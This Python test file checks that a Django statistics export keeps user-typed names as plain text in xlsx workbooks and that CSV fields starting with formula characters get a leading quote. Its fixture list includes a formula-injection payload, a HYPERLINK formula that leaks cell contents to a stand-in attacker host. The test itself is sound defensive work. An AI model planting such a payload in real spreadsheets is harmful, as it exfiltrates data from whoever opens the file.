"""What people typed reaches the bureau's workbook as text, never as a formula (issue 14, point 2)."""

import io
import zipfile

import pytest

from core.sheets import csv_field
from tests.client import ApiClient
from tests.factories import BureauFactory, CommissionerFactory
from tests.stats.test_export import _loaded, shared_rows  # noqa: F401  (a module-scoped fixture)

pytestmark = pytest.mark.django_db
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点此查看")'
FORMULA_LIKE = [HYPERLINK, "=1+1", "+1+1", "@SUM(1,1)", "-1+1"]


@pytest.fixture(scope="module")
def exported(shared_rows) -> bytes:  # noqa: F811
    """One workbook with a commissioner for each formula-like name, all in 右江区."""
    for name in FORMULA_LIKE:
        CommissionerFactory(name=name, area_id="451002")
    response = ApiClient().as_user(BureauFactory()).get("/stats/export.xlsx", **{"from": "2024-01-01",
                                                                                 "to": "2024-12-31"})
    assert response.status_code == 200
    return response.content


@pytest.mark.parametrize("name", FORMULA_LIKE)
def test_a_name_that_looks_like_a_formula_is_a_text_cell_exactly_as_typed(exported, name):
    cells = [cell for ws in _loaded(exported) for row in ws.iter_rows() for cell in row if cell.value == name]
    assert [(cell.data_type, cell.value) for cell in cells] == [("s", name)]


def test_the_workbook_holds_no_formula_at_all(exported):
    with zipfile.ZipFile(io.BytesIO(exported)) as archive:
        sheets = [archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
    assert len(sheets) == 9
    assert not any(b"<f>" in sheet or b"<f " in sheet for sheet in sheets)


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1"])
def test_a_csv_field_that_a_spreadsheet_would_run_gets_a_leading_quote(text):
    assert csv_field(text) == "'" + text


@pytest.mark.parametrize("value", ["张三", "1+1", 42, None, -3])
def test_a_csv_field_that_is_harmless_is_left_alone(value):
    assert csv_field(value) == value
